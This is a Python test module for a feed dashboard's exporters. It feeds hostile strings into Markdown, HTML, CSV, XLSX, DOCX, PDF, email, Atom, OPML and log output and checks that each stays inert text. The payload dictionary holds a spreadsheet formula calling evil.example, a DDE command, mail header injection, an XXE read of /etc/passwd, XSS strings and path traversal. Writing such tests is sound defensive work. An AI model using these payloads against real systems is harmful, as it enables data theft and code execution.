"""Text of feeds means nothing in any format that leaves the house: hostile strings × formats, read back by others.

Each format has a reader that is not ours (a browser's parser, a mail program's, a spreadsheet's …) and one question:
did the hostile string change anything but the text it stands in? So every output is held against the same output made
of a harmless string: the same structure, and nothing of the string anywhere but as text.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import logging
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import docx
import feedparser
import openpyxl
import pypdf
import pytest
from lxml import etree
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from pyarrow import parquet

from dashboard.api import atom
from dashboard.api.parameters import Asked
from dashboard.export import escape, render
from dashboard.export.package import text_of
from feeds.log import JsonLines, PlainLines, in_words
from feeds.model import Outlet, Poll, Source
from feeds.opml import to_opml
from metrics import package
from tests.dashboard.test_export import HOSTILE, made
from tests.summary_values import END

MORE = {
    "a formula that calls home": '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "dynamic data exchange": 'DDE("cmd";"/C calc";"!A0")A0',
    "a formula behind a line break": "\n=1+1",
    "a formula behind a no-break space": "\u00a0=1+1",
    "a full-width at": "＠SUM(A1)",
    "a semicolon and a formula": ";=1+1",
    "typst code": '#eval("1") #read("/etc/passwd") #import "x" $a$ *b* _c_ @d <e> `f` \\ ] [ " } {',
    "typst data": '"}]} #panic("x")',
    "a header": "Title\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "a header in an encoded word": "=?utf-8?q?=0D=0ABcc:_everyone@evil.example?=",
    "a boundary": "--=_0123456789abcdef\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
    "a log line": "time-out\n2031-05-20 12:00 all sources answered",
    "a terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2K",
    "an entity": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "the end of CDATA": "]]><script>alert(1)</script>",
    "an XML attribute": "' onload='alert(1)' \" href=\"javascript:alert(1)\"",
    "a Word field": '{ INCLUDETEXT "C:\\\\secret.txt" } \\* MERGEFORMAT',
    "a script inside JSON": '"},"x":"</script><script>alert(1)</script>',
    "a path": "../../../../etc/passwd\x00.csv",
    "markup in a link": "https://evil.example/?a=1&b=<img src=x onerror=alert(1)>",
    "a reference to a link": "[a][b]\n\n[b]: javascript:alert(1)",
    "HTML inside Markdown": "<details open ontoggle=alert(1)>",
    "very long": "W" * 40_000,
}
STRINGS = HOSTILE | MORE
HARMLESS = "A plain title"
every = pytest.mark.parametrize("hostile", STRINGS.values(), ids=STRINGS)
FORMULA = re.compile(r"[\s'\"]*[=+\-@＝＋－＠\t\r]")


def shown(hostile: str) -> str:
    """What a reader may see of it: one line, nothing that steers."""
    return escape.one_line(hostile)


@cache
def plain(format: str, title: str = HARMLESS) -> bytes:
    """What a format is with nothing hostile in it: the same for every string it is held against."""
    return render(made(title), format)


def tags(root: etree._Element) -> list[tuple[str, tuple[str, ...]]]:
    return [(str(one.tag), tuple(sorted(map(str, one.keys())))) for one in root.iter()]


# Text ----------------------------------------------------------------------------------------------------------------


@every
def test_markdown(hostile: str) -> None:
    """markdown-it, as of CommonMark, with tables, and raw HTML read as such."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")

    def kinds(body: bytes) -> list[str]:
        tokens = reader.parse(body.decode())
        inside = [child for one in tokens for child in one.children or []]
        return [one.type for one in [*tokens, *inside] if one.type not in ("text", "text_special", "html_inline")]

    def raw(body: bytes) -> list[str]:
        tokens = reader.parse(body.decode())
        return [one.content for top in tokens for one in [top, *(top.children or [])] if one.type.startswith("html")]

    body = render(made(hostile), "md")
    if shown(hostile):  # without a title there is one line less
        assert kinds(body) == kinds(plain("md"))
    assert raw(body) == raw(plain("md"))


@every
def test_html(hostile: str) -> None:
    page = lxml_html.fromstring(render(made(hostile), "html"))
    assert tags(page) == tags(lxml_html.fromstring(plain("html")))
    assert not [one for one in page.iter() for name in one.attrib if str(name).startswith("on")]
    assert {one.get("href") for one in page.iter("a")} == {"https://example.org/1"}


@every
def test_csv(hostile: str) -> None:
    read = list(csv.reader(io.StringIO(render(made(hostile), "csv").decode(), newline="")))
    harmless = list(csv.reader(io.StringIO(plain("csv").decode(), newline="")))
    assert [len(row) for row in read] == [len(row) for row in harmless]
    assert not [cell for row in read for cell in row if FORMULA.match(cell) and not cell.startswith("'")]


@every
def test_json(hostile: str) -> None:
    body = render(made(hostile), "json")
    read = json.loads(body)
    assert read["sections"][0]["stories"][0]["title"] == hostile, "nothing is lost"
    assert not re.search(rb"[<>\x00-\x09\x0b-\x1f\x7f]", body)
    assert set(read) == set(json.loads(plain("json")))


@every
def test_parquet(hostile: str) -> None:
    table = parquet.read_table(io.BytesIO(render(made(hostile), "parquet")))
    assert table.schema == parquet.read_table(io.BytesIO(plain("parquet"))).schema
    assert set(table["title"].to_pylist()) == {shown(hostile) or None}


@every
def test_zip(hostile: str) -> None:
    with zipfile.ZipFile(io.BytesIO(render(made(hostile), "zip"))) as packed:
        names = packed.namelist()
        sheets = {one: packed.read(one).decode() for one in names if one.endswith(".csv")}
        head = json.loads(packed.read("datapackage.json"))
    assert names == ["README.md", "changes.csv", "datapackage.json", "days.csv", "evidence.csv", "lines.csv"]
    assert shown(hostile) in ("", "x") or shown(hostile) not in json.dumps(head, ensure_ascii=False)
    for body in sheets.values():
        cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
        assert not [cell for cell in cells if FORMULA.match(cell) and not cell.startswith("'")]


# Pages ---------------------------------------------------------------------------------------------------------------


@every
def test_xlsx(hostile: str) -> None:
    body = render(made(hostile), "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"], "no formula"
    assert not [cell for cell in cells if cell.hyperlink], "no link"
    titles = [row[13] for row in book["Evidence"].iter_rows(min_row=2, values_only=True)]
    assert set(titles) == {shown(hostile)[:32_767] or None}
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        assert not [name for name in packed.namelist() if "external" in name.lower() or "vba" in name.lower()]


@every
def test_docx(hostile: str) -> None:
    body = render(made(hostile), "docx")
    page, harmless = docx.Document(io.BytesIO(body)), docx.Document(io.BytesIO(plain("docx")))
    assert [line.style.name for line in page.paragraphs] == [line.style.name for line in harmless.paragraphs]
    assert not page.element.xpath("//w:fldSimple|//w:instrText|//w:hyperlink|//w:object|//w:altChunk")
    assert any(shown(hostile) in line.text for line in page.paragraphs)
    assert {one.reltype for one in page.part.rels.values()} == {one.reltype for one in harmless.part.rels.values()}
    assert not [one for one in page.part.rels.values() if one.is_external]


SLOW = ("typst code", "typst data", "a formula", "a script", "line breaks", "a backslash", "a template", "mathematics")


@pytest.mark.parametrize("hostile", [STRINGS[name] for name in SLOW], ids=SLOW)
def test_pdf(hostile: str) -> None:
    pages = pypdf.PdfReader(io.BytesIO(render(made(hostile), "pdf")))
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in pages.pages))
    visible = re.sub(r"\s+", "", shown(hostile))
    assert visible in text, "shown as it is, not read as code"
    assert "root:x:" not in text
    assert not [name for name in ("/JavaScript", "/EmbeddedFiles") if name in pages.trailer["/Root"].get("/Names", {})]
    assert "/OpenAction" not in pages.trailer["/Root"]
    targets = {one.get_object()["/A"].get("/URI") for page in pages.pages for one in page.get("/Annots", ())}
    assert targets <= {"https://example.org/1"}


# Mail and feeds ------------------------------------------------------------------------------------------------------


@every
def test_eml(hostile: str) -> None:
    read = email.message_from_bytes(render(made(hostile), "eml"), policy=email.policy.default)
    harmless = email.message_from_bytes(plain("eml"), policy=email.policy.default)
    assert [part.items() for part in read.walk() if part.is_multipart()] == [
        part.items() for part in harmless.walk() if part.is_multipart()
    ]
    assert [part.get_content_type() for part in read.walk()] == [part.get_content_type() for part in harmless.walk()]
    assert not any(part.defects for part in read.walk())
    markup = read.get_body(("html",))
    assert markup is not None
    assert tags(lxml_html.fromstring(markup.get_content())) == tags(lxml_html.fromstring(plain("html").decode()))


@every
def test_atom(hostile: str) -> None:
    entry = atom.Entry(
        "article 1",
        hostile,
        END,
        hostile,
        lines=(hostile, hostile),
        url=hostile,
        language=escape.language(hostile[:2]),
        terms=(hostile,),
    )
    asked = Asked({}, "/api/v1/articles")
    body = atom.feed(asked, "Testland", "test", [entry], None)
    root = etree.fromstring(body, etree.XMLParser(resolve_entities=False))
    assert {etree.QName(one).localname for one in root.iter()} <= {
        "feed", "id", "title", "updated", "link", "entry", "author", "name", "category", "content",
    }  # fmt: skip
    read = feedparser.parse(body)
    assert not read.bozo
    links = {one.href for entry in read.entries for one in entry.get("links", ())}
    assert links <= {escape.link(hostile)}
    assert root.findtext("{*}entry/{*}title") == (shown(hostile) or "–")


@every
def test_opml(hostile: str) -> None:
    outlet = Outlet("o", hostile, hostile, side=hostile)
    one = Source("s", "https://example.org/feed", outlet, ("en",), seen=hostile, retired=hostile or None)
    root = etree.fromstring(to_opml([one], hostile), etree.XMLParser(resolve_entities=False))
    assert [str(part.tag) for part in root.iter()] == ["opml", "head", "title", "body", "outline"]
    outline = root.find("body/outline")
    assert outline is not None
    assert outline.get("xmlUrl") == "https://example.org/feed"
    assert not [name for name in outline.attrib if str(name).startswith("on") or "href" in str(name)]


# Logs ----------------------------------------------------------------------------------------------------------------


def logged(hostile: str, formatter: logging.Formatter) -> str:
    poll = Poll("s", datetime(2031, 5, 20, tzinfo=UTC), "refused", 503, 0.1, 0, error=hostile)
    record = logging.LogRecord("monitor", logging.WARNING, "", 0, in_words(poll), (), None)
    record.fields = {"error": hostile}
    return formatter.format(record)


@every
def test_log(hostile: str) -> None:
    line = logged(hostile, PlainLines())
    assert line.splitlines() == [line]
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", line)


@every
def test_json_log(hostile: str) -> None:
    line = logged(hostile, JsonLines())
    assert line.splitlines() == [line]
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", line)
    assert json.loads(line)["error"] == hostile, "nothing is lost"


# Open data -----------------------------------------------------------------------------------------------------------


def of_feeds() -> Iterator[tuple[str, package.Field]]:
    for table in package.TABLES:
        for field in table.fields:
            if field.type == "string" and not field.values:
                yield f"{table.name}.{field.name}", field


@every
def test_open_data(hostile: str, tmp_path: Path) -> None:
    """Every column of texts, also those that no feed can fill."""
    for name, field in of_feeds():
        written = text_of(field, hostile)
        assert written == "" or not FORMULA.match(written) or written.startswith("'"), name
        assert written.splitlines() in ([], [written]), name
        if field.name == "url":
            assert re.match(r"https?://|$", written), name


READERS: dict[str, Callable[..., None]] = {
    "md": test_markdown, "html": test_html, "csv": test_csv, "json": test_json, "parquet": test_parquet,
    "zip": test_zip, "xlsx": test_xlsx, "docx": test_docx, "pdf": test_pdf, "eml": test_eml,
}  # fmt: skip


def test_no_format_is_forgotten() -> None:
    from dashboard.export import FORMATS

    assert set(READERS) == set(FORMATS)
